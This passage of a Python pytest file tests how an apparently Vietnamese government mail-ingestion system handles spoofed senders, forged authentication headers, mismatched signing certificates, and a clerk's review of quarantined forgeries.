    mail("certificate-listed-by-fingerprint", made(EVIL, None, [hop()], w.signed("listed", doc())))
    mail("certificate-listed-by-name", made(EVIL, None, [hop()], w.signed("named", doc())))
    mail("listed-certificate-on-another-agencys-document", made(EVIL, None, [hop()], w.signed("listed", doc(
        issuer="SỞ TÀI CHÍNH", number=f"{next(numbers)}/STC-NS", summary="V/v tạm ứng kinh phí cho Công ty Ánh Dương"))))
    outs = w.ingest(*mails.values(), command="check")
    by_name = {Path(o["file"]).stem: o for o in outs}
    assert set(by_name) == set(mails)
    return w, certs, by_name


def test_a_shared_signing_domain_speaks_for_the_provinces_agencies_only(variants) -> None:  # type: ignore[no-untyped-def]
    _, _, out = variants
    shared = out["shared-domain-signs-for-stp"]
    assert (shared["verdict"], shared["basis"], shared["sender"]["method"]) == ("accepted", "official-mailbox", "dkim")
    assert out["shared-domain-signs-for-an-outsider"]["sender"]["authenticated"] is False
    sibling = out["sibling-domain-still-not-aligned"]
    assert sibling["sender"]["authenticated"] is False and sibling["verdict"] == "quarantined"


def test_results_count_above_the_last_of_the_provinces_own_hops_only(variants) -> None:  # type: ignore[no-untyped-def]
    _, _, out = variants
    between = out["results-between-two-trusted-hops"]
    assert (between["verdict"], between["basis"]) == ("accepted", "official-mailbox"), between["reasons"]
    below = out["results-below-both-trusted-hops"]
    assert below["sender"]["authenticated"] is False and below["verdict"] == "quarantined"
    assert codes(below).get("forged-authentication-results") == "warning"


@pytest.mark.parametrize("name", ["certificate-listed-by-fingerprint", "certificate-listed-by-name"])
def test_the_directory_names_an_agencys_certificates(variants, name: str) -> None:  # type: ignore[no-untyped-def]
    _, _, out = variants
    assert (out[name]["verdict"], out[name]["basis"]) == ("accepted", "signature"), out[name]["reasons"]
    assert answered(out[name]) == {("ack", STP)}


def test_a_certificate_listed_for_one_agency_does_not_sign_for_another(variants) -> None:  # type: ignore[no-untyped-def]
    _, _, out = variants
    wrong = out["listed-certificate-on-another-agencys-document"]
    assert codes(wrong).get("signer-not-issuer") == "error", wrong["reasons"]
    assert wrong["verdict"] == "quarantined" and answered(wrong) == set()


# ---- 11. the clerk's review of a forgery ---------------------------------------------------------------------------
def test_the_clerks_release_or_return_of_a_forgery_answers_no_forged_from(tmp_path, province) -> None:  # type: ignore[no-untyped-def]
    pki, _, stranger = province
    certs = issue_certificates(pki, stranger)
    w = make_world(tmp_path / "review", pki, certs.as_signers(), stranger)
    paths = {}
    for name, sender, number in (("release-evil", EVIL, "901/STP-VP"), ("return-forged-stp", STP, "902/STP-VP"),
                                 ("return-evil", EVIL, "903/STP-VP")):
        raw = make_mail(sender=sender, to=[CLERK], subject="Gửi văn bản", attachments=[("cv.pdf", w.document(number=number))])
        paths[name] = w.root / f"{name}.eml"
        paths[name].write_bytes(raw)
    outs = {Path(o["file"]).stem: o for o in w.ingest(*paths.values())}
    assert {o["verdict"] for o in outs.values()} == {"quarantined"}
    config = ["--config", str(w.config_path)]
    w.run("review", "release", str(outs["release-evil"]["review_id"]), *config, check=False)
    for name in ("return-forged-stp", "return-evil"):
        w.run("review", "return", str(outs[name]["review_id"]), *config, "--reason", "Không rõ người gửi", check=False)
    register = w.db()
    try:
        with register.session() as s:
            sent = {name: {(o.kind, o.recipient) for o in s.scalars(select(Outbox).where(
                Outbox.mail_id == outs[name]["review_id"], Outbox.kind != "alert"))} for name in outs}
    finally:
        register.close()
    forged_from = {"release-evil": EVIL, "return-forged-stp": STP, "return-evil": EVIL}
    assert {name: to for name, to in forged_from.items() if to in {r for _, r in sent[name]}} == {}, sent
